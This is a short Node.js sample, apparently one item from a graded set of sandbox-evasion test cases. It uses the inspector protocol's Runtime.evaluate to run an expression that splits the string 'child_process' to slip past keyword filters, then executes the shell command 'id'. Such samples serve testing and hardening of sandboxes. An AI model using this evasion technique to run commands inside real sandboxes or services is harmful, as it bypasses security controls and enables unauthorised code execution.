// evasion: code evaluated through the inspector protocol's Runtime.evaluate
// grade: very hard; does: shell
const inspector = require('inspector');
const session = new inspector.Session();
session.connect();
const expr = "process.mainModule.require('child_' + 'process').execSync('id').toString()";
session.post('Runtime.evaluate', { expression: expr, includeCommandLineAPI: true }, (err, res) => {
  console.log(res && res.result.value);
  session.disconnect();
});
